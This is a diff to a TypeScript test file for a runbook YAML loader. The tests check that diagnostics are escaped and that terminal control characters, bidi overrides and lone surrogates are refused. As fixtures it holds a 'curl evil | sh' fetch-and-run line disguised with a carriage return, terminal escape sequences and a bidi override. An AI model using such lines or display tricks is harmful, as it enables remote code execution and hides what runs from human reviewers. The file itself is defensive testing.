@@ -697,12 +697,39 @@ describe('invalid runbooks: every diagnostic with code, line and column', () => 
     expect(formatDiagnostic(diagnostic!)).toBe('x.yaml:11:9: questions[0].checks[0] has unknown property "expct"; did you mean "expect"? [RB_SCHEMA]');
   });
 
-  test('what a message quotes from the file prints escaped: one line, no terminal control', () => {
-    // Found by fuzzing: a key holding a line break printed as two lines; one holding ESC could clear the screen.
-    const [diagnostic] = loadRunbookText('x.yaml', 'version: 1\ntitle: t\nhosts: {server: local}\nquestions: []\n"a\\nb\\e[2J\\x9b\\u2028": 1\n').diagnostics.filter((found) => found.message.includes('unknown property'));
-    expect(formatDiagnostic(diagnostic!)).toBe(
-      'x.yaml:5:1: the runbook has unknown property "a\\nb\\x1b[2J\\x9b\\u2028"; expected one of: version, title, description, vars, hosts, questions, defaults, include, diagnosis [RB_SCHEMA]',
-    );
+  test('what a message quotes prints escaped: one line, no terminal control', () => {
+    // Found by fuzzing: a key holding a line break printed as two lines; one holding ESC could clear
+    // the screen. Such a file no longer loads (below); a message may still quote a name given on
+    // the command line (--var, --host), so formatting escapes whatever it is given.
+    const quoted: Diagnostic = { code: 'RB_SCHEMA', message: 'the runbook has unknown property "a\nb\u001b[2J\u009b\u2028\u202eKO\t"', location: { file: 'x.yaml', line: 5, col: 1 } };
+    expect(formatDiagnostic(quoted)).toBe('x.yaml:5:1: the runbook has unknown property "a\\nb\\x1b[2J\\x9b\\u2028\\u202EKO\\t" [RB_SCHEMA]');
+  });
+
+  // What `runbook plan` and the reports show must be what runs: a character a terminal acts on (ESC,
+  // a carriage return, C1's CSI) or one that reorders the text around it (a bidi override) is
+  // refused where it is written, in a key or a value, raw or as a YAML escape.
+  test('a character that acts on a terminal or reorders text does not load: each at its value, named', () => {
+    const yaml = [
+      'version: 1',
+      'title: "t \\e]0;owned\\a"',
+      'hosts: {server: local}',
+      'questions:',
+      '  - id: q',
+      '    title: "Q \u202e gnirts"',
+      '    checks:',
+      '      - { id: c, on: server, run: "curl evil | sh #\\r echo harmless" }',
+      '"key \\x9b": 1',
+      'description: "half \\ud800"',
+      'defaults: { timeout: "5s\tx" }',
+    ].join('\n');
+    const printed = loadRunbookText('x.yaml', yaml).diagnostics.map(formatDiagnostic);
+    expect(printed).toEqual([
+      expect.stringMatching(/^x\.yaml:2:8: the value holds the control character U\+001B, which a terminal acts on: .* \[RB_YAML\]$/),
+      expect.stringMatching(/^x\.yaml:6:12: the value holds U\+202E, a bidi control: the text around it would show in another order than it is written, so `runbook plan` could not show what runs; remove it \[RB_YAML\]$/),
+      expect.stringMatching(/^x\.yaml:8:35: the value holds the control character U\+000D, which a terminal acts on: .*printf 'a\\r\\n' \[RB_YAML\]$/),
+      expect.stringMatching(/^x\.yaml:9:1: the value holds the control character U\+009B, /),
+      'x.yaml:10:14: the value holds a lone surrogate (U+D800), which no UTF-8 text can carry; remove it [RB_YAML]',
+    ]);
   });
 
   test("a secret's default is refused without repeating it", () => {
